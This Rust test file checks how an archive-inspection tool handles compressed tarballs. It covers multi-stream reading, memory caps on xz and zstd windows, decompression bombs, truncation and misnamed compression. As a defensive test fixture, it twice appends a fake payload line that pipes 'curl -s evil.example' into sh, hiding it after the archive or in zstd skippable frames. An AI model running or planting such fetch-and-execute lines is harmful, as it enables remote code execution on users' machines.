//! The compressions: tar.gz, tar.xz, tar.zst and tar.bz2 read like the
//! plain tar, every member, frame or stream read, bytes after the last one
//! refused, dictionaries and windows over the cap refused before anything
//! is allocated, bombs stopped by the ratio rule, truncation and a name
//! promising another compression failing. The archives are made by the
//! test kit's pure-Rust encoders and, where installed, by `xz`, `zstd` and
//! `bzip2` themselves (a missing tool fails with `CI` set and is skipped
//! loudly otherwise); the tools also check the test's own bytes.

use std::io::Write;
use std::process::{Command, Stdio};

use intake::engine::inspect::Limits;
use intake::engine::inspect::compress::xz::MAX_BLOCKS;
use intake::engine::inspect::report::ArchiveReport;
use intake::engine::shared::check::{CheckId, Status};
use intake::testkit::archives::{self, Entry, noise};
use intake::testkit::hostile::{RawTar, gz};
use intake::testkit::hostile_compress::{xz_dictionary, xz_stored, zstd_frame, zstd_skippable};

use crate::archives::assert_finding;
use crate::support::*;

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Codec {
    Gzip,
    Xz,
    Zstd,
    Bzip2,
}

use Codec::*;

const ALL: [Codec; 4] = [Gzip, Xz, Zstd, Bzip2];

impl Codec {
    /// The kind's name, and the artifact name ending.
    fn kind(self) -> &'static str {
        match self {
            Gzip => "tar.gz",
            Xz => "tar.xz",
            Zstd => "tar.zst",
            Bzip2 => "tar.bz2",
        }
    }

    fn artifact(self) -> String {
        format!("meridian-4.2.1-linux-x86_64.{}", self.kind())
    }

    /// One member, stream or frame, made by the test kit.
    fn compress(self, data: &[u8]) -> Vec<u8> {
        match self {
            Gzip => gz(data),
            Xz => archives::xz(data).unwrap(),
            Zstd => archives::zstd(data),
            Bzip2 => archives::bzip2(data).unwrap(),
        }
    }

    /// The tool that makes and reads it, and its Debian package.
    fn tool(self) -> (&'static str, &'static str) {
        match self {
            Gzip => ("gzip", "gzip"),
            Xz => ("xz", "xz-utils"),
            Zstd => ("zstd", "zstd"),
            Bzip2 => ("bzip2", "bzip2"),
        }
    }

    /// Words of the finding on bytes after the last stream.
    fn last_unit(self) -> &'static str {
        match self {
            Gzip => "after the last gzip member",
            Xz => "after the last xz stream",
            Zstd => "after the last zstd frame",
            Bzip2 => "after the last bzip2 stream",
        }
    }
}

/// A release-like tree: folders, an executable, text, noise, a symlink.
fn tree() -> Vec<Entry> {
    vec![
        Entry::dir("m/"),
        Entry::dir("m/bin/"),
        Entry::file("m/bin/server", noise(150_000, 11)).mode(0o755),
        Entry::file("m/conf/app.toml", b"port = 8443\n".repeat(2_000)),
        Entry::file("m/README", b"Meridian (demo)\n".to_vec()),
        Entry::file("m/empty", Vec::new()),
        Entry::symlink("m/bin/run", "server"),
    ]
}

fn plain_tar() -> Vec<u8> {
    archives::tar(&tree()).unwrap()
}

/// An entry as the manifest has it: path, kind, mode, size, sha256.
type Listed = (Vec<u8>, String, u32, u64, Option<[u8; 32]>);

fn listing(r: &ArchiveReport) -> Vec<Listed> {
    r.entries
        .iter()
        .map(|e| {
            (
                e.path.clone(),
                e.kind.word().into(),
                e.mode,
                e.size,
                e.sha256,
            )
        })
        .collect()
}

/// Asserts `bytes` (named as `codec`'s artifact) read clean, as the tar.
#[track_caller]
fn assert_reads_as_the_tar(codec: Codec, bytes: &[u8], what: &str) {
    let plain = inspect_bytes("m.tar", &plain_tar());
    let r = inspect_bytes(&codec.artifact(), bytes);
    assert_eq!(r.kind, codec.kind(), "{what}");
    assert!(r.findings.is_empty(), "{what}: {:#?}", r.findings);
    assert_eq!(listing(&r), listing(&plain), "{what}");
    assert_eq!(r.expanded, plain.expanded, "{what}");
}

/// Asserts a failing finding on `subject` saying every one of `words`.
#[track_caller]
fn assert_refused(r: &ArchiveReport, subject: &str, words: &[&str]) {
    assert!(
        r.findings.iter().any(|f| f.status == Status::Fail
            && f.subject.contains(subject)
            && words.iter().all(|w| f.summary.contains(w))),
        "no failing finding on {subject:?} saying {words:?} in {:#?}",
        r.findings
    );
}

#[test]
fn each_compression_reviews_with_the_plain_tars_manifest() {
    let tar = plain_tar();
    let notes = |name: &str| {
        let mut t = format!("# Notes\n\n## Contents: {name}\n\n| path | size |\n|---|---|\n");
        for e in tree() {
            match &e.kind {
                archives::Kind::File(data) => {
                    t.push_str(&format!("| {} | {} |\n", e.path, data.len()))
                }
                archives::Kind::Symlink(_) => t.push_str(&format!("| {} | |\n", e.path)),
                archives::Kind::Dir => {}
            }
        }
        Some(t)
    };
    let plain = review_artifact("linux-x86_64", "m.tar", tar.clone(), notes("m.tar"));
    assert_status(&plain, CheckId::ArchiveSafety, Status::Pass);
    for codec in ALL {
        let name = codec.artifact();
        let r = review_artifact("linux-x86_64", &name, codec.compress(&tar), notes(&name));
        assert_status(&r, CheckId::ArchiveSafety, Status::Pass);
        assert_status(&r, CheckId::ArchiveContents, Status::Pass);
        assert_eq!(r.manifest, plain.manifest, "{codec:?}");
    }
}

#[test]
fn later_members_streams_and_frames_are_read_too() {
    let tar = plain_tar();
    // Seams on a block boundary, inside an entry's data, one byte in.
    for codec in ALL {
        for cut in [512, 100_000, 1] {
            let mut bytes = codec.compress(&tar[..cut]);
            bytes.extend(codec.compress(&tar[cut..]));
            assert_reads_as_the_tar(codec, &bytes, &format!("{codec:?} cut at {cut}"));
        }
        // Three streams, the middle one empty.
        let mut bytes = codec.compress(&tar[..2048]);
        bytes.extend(codec.compress(b""));
        bytes.extend(codec.compress(&tar[2048..]));
        assert_reads_as_the_tar(codec, &bytes, &format!("{codec:?} with an empty stream"));
    }
    // xz stream padding (zeros in fours) between and after streams.
    let mut bytes = archives::xz(&tar[..4096]).unwrap();
    bytes.extend([0; 8]);
    bytes.extend(archives::xz(&tar[4096..]).unwrap());
    bytes.extend([0; 4]);
    assert_reads_as_the_tar(Xz, &bytes, "xz with stream padding");
}

#[test]
fn bytes_after_the_last_stream_fail_as_hidden_content() {
    let tar = plain_tar();
    for codec in ALL {
        let mut bytes = codec.compress(&tar);
        let end = bytes.len();
        bytes.extend_from_slice(b"#!/bin/sh\ncurl -s evil.example | sh\n");
        let r = review_artifact("linux-x86_64", &codec.artifact(), bytes, None);
        let words = format!("from byte {end} of the artifact, {}", codec.last_unit());
        assert_finding(safety(&r), Status::Fail, "(after the archive)", &words);
        assert_finding(
            safety(&r),
            Status::Fail,
            "(after the archive)",
            "hidden content",
        );
    }
    // A lone byte, a stream's first bytes cut short, padding not in fours.
    let xz = archives::xz(&tar).unwrap();
    for (codec, tail) in [
        (Zstd, &[0x28u8][..]),
        (Zstd, &[0x28, 0xB5, 0x2F][..]),
        (Bzip2, b"BZh"),
        (Bzip2, b"BZh0"),
        (Xz, &[0, 0, 0][..]),
        (Xz, &[0xFD, b'7', b'z'][..]),
        (Gzip, &[0][..]),
    ] {
        let mut bytes = if codec == Xz {
            xz.clone()
        } else {
            codec.compress(&tar)
        };
        bytes.extend_from_slice(tail);
        let r = inspect_bytes(&codec.artifact(), &bytes);
        assert_refused(
            &r,
            "(after the archive)",
            &["hidden content", codec.last_unit()],
        );
    }
}

#[test]
fn a_zstd_skippable_frame_is_hidden_content() {
    let tar = plain_tar();
    let payload = b"#!/bin/sh\ncurl -s evil.example | sh\n";
    let frame = archives::zstd(&tar);
    let (first, rest) = (archives::zstd(&tar[..1024]), archives::zstd(&tar[1024..]));
    // After the archive, between two frames, and before the first.
    for (bytes, at) in [
        (
            [frame.clone(), zstd_skippable(payload)].concat(),
            frame.len(),
        ),
        (
            [first.clone(), zstd_skippable(payload), rest].concat(),
            first.len(),
        ),
        ([zstd_skippable(payload), frame].concat(), 0),
    ] {
        let r = inspect_bytes("m.tar.zst", &bytes);
        assert_eq!(r.kind, "tar.zst");
        let words = format!("a zstd skippable frame at byte {at} of the artifact");
        assert_refused(&r, "(compressed stream)", &[&words, "hidden content"]);
    }
}

#[test]
fn a_dictionary_or_window_over_the_cap_is_refused_before_allocating() {
    let tar = RawTar::new().file("m/a", b"alpha").finish();
    let xz = archives::xz(&tar).unwrap();
    // xz: property 31 is 192 MiB, 39 is 3 GiB, 40 the 4 GiB - 1 maximum.
    for (dict, asked) in [
        (31, "201326592 bytes (192 MiB)"),
        (39, "3221225472 bytes (3 GiB)"),
        (40, "4294967295 bytes (4.0 GiB)"),
    ] {
        let r = inspect_bytes("m.tar.xz", &xz_dictionary(&xz, dict).unwrap());
        let words = format!(
            "an xz dictionary of {asked} is over the decoder memory cap of 134217728 bytes (128 MiB): refused before allocating it"
        );
        assert_refused(&r, "(decompression)", &[&words]);
        assert!(r.entries.is_empty());
    }
    // zstd: window 144 MiB and 2 GiB; a single-segment frame whose window
    // is its declared content size, 1 TiB.
    for (descriptor, asked) in [
        (vec![0x00, 0x89], "150994944 bytes (144 MiB)"),
        (vec![0x00, 0xA8], "2147483648 bytes (2 GiB)"),
        (
            [vec![0xE0], (1u64 << 40).to_le_bytes().to_vec()].concat(),
            "1099511627776 bytes (1 TiB)",
        ),
    ] {
        let r = inspect_bytes("m.tar.zst", &zstd_frame(&descriptor, &tar));
        let words = format!("a zstd window of {asked} is over the decoder memory cap");
        assert_refused(
            &r,
            "(decompression)",
            &[&words, "refused before allocating it"],
        );
    }
    // Under a smaller cap, the test kit's own 1 MiB xz dictionary is too much.
    let small = Limits {
        max_window: 512 << 10,
        ..Limits::default()
    };
    let r = inspect_bytes_within("m.tar.xz", &xz, &small);
    assert_refused(
        &r,
        "(decompression)",
        &["an xz dictionary of 1048576 bytes (1 MiB)"],
    );
    // The finding reaches archive.safety as it is said.
    let r = review_artifact(
        "linux-x86_64",
        "m.tar.xz",
        xz_dictionary(&xz, 39).unwrap(),
        None,
    );
    assert_finding(
        safety(&r),
        Status::Fail,
        "(decompression)",
        "3221225472 bytes (3 GiB)",
    );
}

#[test]
fn an_xz_stream_of_more_blocks_than_the_decoder_should_remember_is_refused() {
    let tar = plain_tar();
    // Blocks of one stored chunk, of several, and empty ones, are read.
    let few = xz_stored(&[&tar[..700], b"", &tar[700..100_000], b"", &tar[100_000..]]);
    assert_reads_as_the_tar(Xz, &few, "xz in five hand-made blocks");
    // The archive, then a million empty blocks (16 bytes each).
    let mut blocks: Vec<&[u8]> = vec![&tar];
    blocks.resize(MAX_BLOCKS as usize + 1, b"");
    let r = inspect_bytes("m.tar.xz", &xz_stored(&blocks));
    assert_refused(
        &r,
        "(decompression)",
        &["an xz stream of more than 1000000 blocks: refused"],
    );
}

#[test]
fn a_dictionary_or_window_of_the_cap_itself_is_read() {
    let tar = plain_tar();
    // xz property 30: 128 MiB; zstd window descriptor 0x88: 128 MiB.
    let xz = xz_dictionary(&archives::xz(&tar).unwrap(), 30).unwrap();
    assert_reads_as_the_tar(Xz, &xz, "xz with a 128 MiB dictionary");
    let small = RawTar::new().file("m/a", &noise(20_000, 3)).finish();
    let r = inspect_bytes("m.tar.zst", &zstd_frame(&[0x00, 0x88], &small));
    assert!(r.findings.is_empty(), "{:#?}", r.findings);
    assert_eq!(r.entries.len(), 1);
}

#[test]
fn a_compressed_bomb_stops_at_the_ratio() {
    // 64 MiB of zeros in one entry compresses far past 100:1 in any of them.
    let tar = RawTar::new().file("m/zeros", &vec![0u8; 64 << 20]).finish();
    for codec in [Xz, Zstd, Bzip2] {
        let bytes = codec.compress(&tar);
        let r = review_artifact("linux-x86_64", &codec.artifact(), bytes, None);
        let c = safety(&r);
        assert_finding(c, Status::Fail, "m/zeros", "possible decompression bomb");
        let expanded: u64 = c.evidence["expanded"].parse().unwrap();
        assert!(
            expanded < 16 << 20,
            "{codec:?}: decompression went on to {expanded}"
        );
    }
}

/// A zstd frame with an 8 MiB window over `tar` (4 KiB raw and RLE blocks).
fn zstd_8mib_window(tar: &[u8]) -> Vec<u8> {
    zstd_frame(&[0x00, 0x68], tar)
}

#[test]
fn zstd_output_held_back_a_window_is_still_measured_where_it_was_decoded() {
    // ruzstd gives out a frame's output a window late. Entries are judged
    // on the compressed bytes that decoded them, not on those the decoder
    // had read when their bytes came out.
    let noise9 = noise(9 << 20, 21);
    // 4 MiB of zeros between two runs of noise: a bomb, though the next
    // 4 MiB read compress 1:1.
    let bomb = RawTar::new()
        .file("m/noise", &noise9)
        .file("m/zeros", &vec![0u8; 4 << 20])
        .file("m/more-noise", &noise9)
        .finish();
    let r = inspect_bytes("m.tar.zst", &zstd_8mib_window(&bomb));
    assert_refused(&r, "m/zeros", &["possible decompression bomb"]);
    // 3 MiB compressing about 10:1, then 8 MiB of zeros in files too small
    // to judge one by one: no bomb, though the next 3 MiB read compress
    // 1000:1.
    let tenfold: Vec<u8> = (0..3 << 20)
        .map(|i: usize| {
            if i % 40_960 < 4096 {
                (i * 7 % 251) as u8
            } else {
                b'a'
            }
        })
        .collect();
    let mut t = RawTar::new()
        .file("m/noise", &noise9)
        .file("m/tenfold", &tenfold);
    for i in 0..16 {
        t = t.file(&format!("m/zeros-{i}"), &vec![0u8; 512 << 10]);
    }
    let r = inspect_bytes("m.tar.zst", &zstd_8mib_window(&t.finish()));
    assert!(r.findings.is_empty(), "{:#?}", r.findings);
    assert_eq!(r.entries.len(), 18);
}

#[test]
fn truncated_and_corrupt_streams_fail() {
    let tar = plain_tar();
    for codec in ALL {
        let good = codec.compress(&tar);
        for cut in [good.len() / 2, good.len() - 1] {
            let r = inspect_bytes(&codec.artifact(), &good[..cut]);
            assert!(
                r.stopped.is_some(),
                "{codec:?} cut to {cut}: {:#?}",
                r.findings
            );
            assert_refused(&r, "entry", &["truncated"]);
        }
    }
    // xz and bzip2 check every block: a flipped byte fails (where the
    // tar walk first trips on the damage, or at the block's check).
    for codec in [Xz, Bzip2] {
        let mut bad = codec.compress(&tar);
        let mid = bad.len() / 2;
        bad[mid] ^= 0x55;
        let r = inspect_bytes(&codec.artifact(), &bad);
        assert!(r.stopped.is_some(), "{codec:?}: {:#?}", r.findings);
    }
}

#[test]
fn a_name_promising_another_compression_fails() {
    let tar = plain_tar();
    for (named, bytes_of, says) in [
        (
            Xz,
            Zstd,
            "the file name says an xz-compressed tar archive, but the bytes are a zstd-compressed tar archive",
        ),
        (
            Zstd,
            Bzip2,
            "the file name says a zstd-compressed tar archive, but the bytes are a bzip2-compressed tar archive",
        ),
        (
            Bzip2,
            Gzip,
            "the file name says a bzip2-compressed tar archive, but the bytes are a gzip-compressed tar archive",
        ),
        (
            Gzip,
            Xz,
            "the file name says a gzip-compressed tar archive, but the bytes are an xz-compressed tar archive",
        ),
    ] {
        let r = inspect_bytes(&named.artifact(), &bytes_of.compress(&tar));
        assert_eq!(r.kind, bytes_of.kind());
        assert_refused(&r, "(artifact name)", &[says]);
    }
    // A tar whose first name begins like a bzip2 header is still a tar.
    let t = RawTar::new().file("BZh9 build notes", b"x").finish();
    assert_eq!(inspect_bytes("m.tar", &t).kind, "tar");
}

/// The tool when installed; when not, a failure with `CI` set, else a
/// loud skip.
fn installed(codec: Codec) -> bool {
    let (program, package) = codec.tool();
    let found = Command::new(program)
        .arg("--version")
        .stdin(Stdio::null())
        .output()
        .is_ok_and(|o| o.status.success());
    if !found {
        assert!(
            std::env::var_os("CI").is_none(),
            "{program} is not installed (Debian package {package}), and CI is set"
        );
        eprintln!(
            "\n!!!!! compressions: {program} is NOT INSTALLED (Debian package {package}): \
             its reading is NOT compared. Set CI to make this a failure. !!!!!\n"
        );
    }
    found
}

/// Runs `program args` with `input` on stdin; its stdout, or its stderr as
/// the error.
fn run(program: &str, args: &[&str], input: &[u8]) -> Result<Vec<u8>, String> {
    let mut child = Command::new(program)
        .args(args)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut stdin = child.stdin.take().unwrap();
    let out = std::thread::scope(|s| {
        s.spawn(move || stdin.write_all(input));
        child.wait_with_output().unwrap()
    });
    if out.status.success() {
        Ok(out.stdout)
    } else {
        Err(String::from_utf8_lossy(&out.stderr).into_owned())
    }
}

#[test]
fn the_tools_and_intake_read_the_same_bytes() {
    let tar = plain_tar();
    for codec in ALL {
        if !installed(codec) {
            continue;
        }
        let program = codec.tool().0;
        // The tool's own output: its default, small blocks where it has
        // them, and for xz a BCJ filter before LZMA2.
        let variants: &[&[&str]] = match codec {
            Gzip => &[&["-c"], &["-c", "-1"]],
            Xz => &[
                &["-c"],
                &["-c", "-1", "--block-size=4KiB"],
                &["-c", "--x86", "--lzma2=preset=1"],
            ],
            Zstd => &[&["-c", "-q"], &["-c", "-q", "-19"]],
            Bzip2 => &[&["-c"], &["-c", "-1"]],
        };
        for args in variants {
            let made = run(program, args, &tar).unwrap();
            assert_reads_as_the_tar(codec, &made, &format!("{program} {args:?}"));
        }
        // The test's own streams, two of them, are what the tool reads too,
        // and so is an xz stream laid out block by block.
        let mut two = codec.compress(&tar[..1000]);
        two.extend(codec.compress(&tar[1000..]));
        assert_eq!(run(program, &["-dc"], &two).unwrap(), tar, "{program} -dc");
        if codec == Xz {
            let blocks = xz_stored(&[&tar[..700], b"", &tar[700..]]);
            assert_eq!(run(program, &["-dc"], &blocks).unwrap(), tar, "xz -dc");
        }
        // And the tool refuses what intake calls a window over its cap,
        // with the exception of xz, which has no default memory limit.
        if codec == Zstd {
            let frame = zstd_frame(&[0x00, 0x89], &tar[..4096]);
            assert!(
                run(program, &["-dc"], &frame).is_err(),
                "zstd -dc accepted a 144 MiB window"
            );
        }
    }
}

#[test]
fn mangled_compressed_archives_never_panic_or_hang() {
    let tar = RawTar::new()
        .file("m/a", &noise(3000, 5))
        .file("m/b", &b"text ".repeat(600))
        .finish();
    let mut state = 0x2545_F491_4F6C_DD1Du64;
    let mut next = move || {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        state
    };
    for codec in [Xz, Zstd, Bzip2] {
        let good = codec.compress(&tar);
        for _ in 0..120 {
            let mut bytes = good.clone();
            for _ in 0..1 + next() % 3 {
                let at = next() as usize % bytes.len();
                bytes[at] ^= (next() % 255 + 1) as u8;
            }
            if next() % 4 == 0 {
                bytes.truncate(next() as usize % bytes.len());
            }
            let r = inspect_bytes(&codec.artifact(), &bytes);
            assert!(r.entries.len() <= 2);
        }
    }
}
